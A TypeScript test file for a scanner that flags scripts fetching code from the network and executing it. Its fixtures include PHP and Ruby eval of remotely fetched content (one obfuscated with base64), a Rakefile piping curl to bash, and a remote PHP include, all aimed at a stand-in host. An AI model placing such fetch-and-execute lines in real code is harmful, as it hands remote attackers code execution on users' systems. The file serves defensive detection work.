import { testLures } from '../../../test/support/lures.ts';
import detector from './script-network-to-code.ts';

testLures(detector, {
  proof: {
    'PHP, one expression': {
      'app/Helpers/rates.php': '<?php\neval(file_get_contents("https://fixture.invalid/a"));\n',
    },
    'PHP, decoded': { 'lib/a.php': "<?php @eval(base64_decode(file_get_contents(base64_decode('aHR0cA=='))));\n" },
    'PHP, variable': {
      'lib/a.php': "<?php\n$code = file_get_contents('https://fixture.invalid/a');\neval('?>' . $code);\n",
    },
    Ruby: {
      'config/initializers/rates.rb': "require 'net/http'\neval(Net::HTTP.get(URI('https://fixture.invalid/a')))\n",
    },
    'Ruby, variable': {
      'lib/rates.rb': "require 'open-uri'\nbody = URI.open('https://fixture.invalid/a').read\neval body\neval(body)\n",
    },
  },
  strong: {
    'a shell in a Rakefile': {
      Rakefile: 'task :setup do\n  system("curl -s https://fixture.invalid/a | bash")\nend\n',
    },
    'included address': { 'index.php': "<?php include 'https://fixture.invalid/a.txt';\n" },
  },
  silent: {
    'gem specification': { 'a.gemspec': 'eval(File.read("version.rb"))\nsystem("git ls-files")\n' },
    'own file': {
      'a.php':
        "<?php\neval(file_get_contents(__DIR__ . '/x.php'));\ninclude 'header.php';\n$x = file_get_contents('https://rates.example/a');\necho json_decode($x)->rate;\n",
    },
    installer: { Rakefile: 'system("curl -fsSL https://get.docker.com | sh")\n' },
    'JavaScript is read otherwise': { 'a.js': 'eval(file_get_contents("https://fixture.invalid"))' },
  },
});
